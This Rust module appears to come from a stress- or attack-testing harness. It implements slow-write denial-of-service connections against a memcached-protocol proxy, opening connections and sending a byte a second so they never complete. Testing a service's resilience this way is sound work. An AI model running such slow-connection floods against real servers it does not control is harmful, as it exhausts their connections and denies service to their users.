//! Writers that send a byte a second.

use std::time::Duration;

use super::context::AttackContext;

const BETWEEN_BYTES: Duration = Duration::from_secs(1);

/// Bytes, more than proxies hold whole.
const UPLOAD: usize = 100_000;

/// A value whose end is never sent.
pub(super) fn uploads(context: &AttackContext<'_>, number: u32) {
    let head = format!("set ~upload{number} 0 0 {UPLOAD}\r\n");
    dribble(context, head.as_bytes(), &[b'u'; UPLOAD]);
}

/// A request line, and when it is whole at last the next.
pub(super) fn lines(context: &AttackContext<'_>, number: u32) {
    let request = match number % 4 {
        0 => "get ~x ~y ~z\r\n",
        1 => "set ~line 0 0 5\r\nhello\r\n",
        2 => "delete ~line\r\n",
        _ => "incr ~line 1\r\n",
    };
    dribble(context, b"", request.repeat(100).as_bytes());
}

fn dribble(context: &AttackContext<'_>, at_once: &[u8], slowly: &[u8]) {
    while !context.is_over() {
        let Some(mut connection) = context.connect() else {
            continue;
        };
        context.count_requests(1);
        if !connection.send(at_once) {
            continue;
        }
        for byte in slowly {
            if !connection.send(&[*byte]) || context.is_over() {
                break;
            }
            context.pause(BETWEEN_BYTES);
            // A refusal, or the end.
            if connection.receive(&mut [0; 1_024]).is_none() {
                break;
            }
        }
    }
}
